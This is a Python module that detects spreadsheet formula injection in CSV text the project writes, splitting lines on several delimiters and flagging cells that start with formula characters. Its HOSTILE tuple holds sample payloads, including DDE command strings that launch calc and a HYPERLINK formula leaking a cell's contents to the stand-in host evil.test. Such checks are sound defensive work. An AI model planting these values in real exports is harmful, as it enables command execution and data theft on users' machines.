"""Checks that a CSV the project wrote cannot run a formula in a spreadsheet.

A spreadsheet may split a line on `,` (honouring quotes), on `;` or a tab (its locale's list
separator), or on anything, ignoring quotes. Every piece any of those splits gives, past blanks,
control characters and a quote, must not start with = + - @ unless it is a plain number.
"""

from __future__ import annotations

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@")
HOSTILE = (
    "x;=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Shop, +cmd|' /C calc'!A0",
    "\t=1+1",
)
_NUMBER = re.compile(r"-?\d+([.,]\d+)?")
_SKIPPED = "".join(chr(c) for c in range(33)) + '"'


def _runs(piece: str) -> bool:
    stripped = piece.lstrip(_SKIPPED)
    return stripped.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(stripped)


def runnable_cells(text: str) -> list[str]:
    """The pieces of `text` a spreadsheet would run as formulas (empty: the file is inert)."""
    found: list[str] = []
    for delimiter in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            found += [cell for cell in row if _runs(cell)]
    for line in text.splitlines():
        found += [p for p in re.split(r"[,;\t|]", line) if _runs(p)]
    return found
